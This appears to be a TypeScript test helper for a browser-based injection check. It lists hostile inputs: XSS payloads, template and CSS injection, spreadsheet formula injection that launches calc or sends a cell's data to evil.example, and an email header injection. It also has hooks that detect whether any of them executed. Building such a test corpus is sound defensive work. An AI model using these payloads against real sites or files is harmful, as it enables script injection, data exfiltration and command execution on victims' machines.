/**
 * What people type who mean harm, or only have an unusual name. Each text that is markup makes an element with the id MARK or calls
 * `alert`, so that a page into which it got as markup can be told from one that shows it.
 */
import type { Frame, Page } from "playwright-core";
import { ask } from "./in-page.ts";

export const MARK = "gv-got-in";
const ATTRIBUTES = `id=${MARK} onmouseover=alert(1)`;

export const CORPUS: Record<string, string> = {
  script: `<script id=${MARK}>alert("script")</script>`,
  image: `<img src=x ${ATTRIBUTES} onerror=alert("image")>`,
  svg: `<svg ${ATTRIBUTES} onload=alert("svg")>`,
  breakout: `"'></title></style></textarea></script><img ${ATTRIBUTES} src=x onerror=alert("breakout")>`,
  attribute: `" autofocus onfocus=alert("attribute") id="${MARK}" x="`,
  frame: `<iframe id=${MARK} srcdoc="<script>parent.alert('frame')</script>"></iframe>`,
  mutation: `<math><mtext><table><mglyph><style><!--</style><img ${ATTRIBUTES} src=x onerror=alert("mutation")>`,
  noscript: `<noscript><p title="</noscript><img ${ATTRIBUTES} src=x onerror=alert('noscript')>">`,
  base: `<base id=${MARK} href=//evil.example/><meta id=${MARK} http-equiv=refresh content="9;url=//evil.example">`,
  link: `<a id=${MARK} href="javascript:alert('link')">Ann</a>`,
  scheme: `javascript:alert("scheme")//`,
  entity: `&lt;img src=x ${ATTRIBUTES} onerror=alert("entity")&gt;&#60;b ${ATTRIBUTES}&#62;`,
  liquid: `{{ 7 | times: 191 }}{% assign x = "a" %}{{ x.constructor.constructor }}{% raw %}`,
  template: "${alert('template')}#{7*191}<%= 7*191 %>{{constructor.constructor('alert(1)')()}}",
  message: "{n, plural, other {# {x}}} '{' {0} <b>",
  css: `</style><style id=${MARK}>*{display:none}</style>;}*{background:url(//evil.example)}`,
  backwards: "\u202Egro.elgoog\u202C \u2066x\u2069 \u200F",
  long: `Wolfeschlegelsteinhausenbergerdorff${"ö".repeat(165)}`,
  emoji: "👩‍👩‍👧‍👦🏳️‍🌈 Ånn\u0301e 王小明 محمد",
  formula: `=HYPERLINK("http://evil.example?x="&A1,"Ann")`,
  formulaPlus: "+cmd|' /C calc'!A0",
  formulaAt: "@SUM(1+1)*cmd|' /C calc'!A0",
  formulaMinus: "-2+3+cmd|' /C calc'!A0",
  formulaWide: "＝1+1",
  header: "Ann\r\nBcc: everybody@evil.example\r\n\r\n<b>x</b>",
  nothing: "\u200B \u00A0",
};

/** Runs in every page before its own scripts: whatever calls one of these was let in. */
export const HOOK = `
  window.__gvFired = [];
  for (const name of ["alert", "confirm", "prompt", "print"]) {
    const told = (...args) => { try { top.__gvFired.push(name + "(" + args.join() + ")"); } catch { window.__gvFired.push(name); } };
    Object.defineProperty(window, name, { value: told, configurable: false, writable: false });
  }
`;

/** What got into a page as markup instead of text: things that ran, elements with the mark, scripts in addresses. Empty is well. */
export function intruders(page: Page | Frame): Promise<string[]> {
  return ask(page, "intruders", MARK);
}

/** Runs what waits for a hand: points at everything that can be pointed at. */
export async function prod(page: Page): Promise<void> {
  await ask(page, "prod");
  await page.waitForTimeout(50);
}
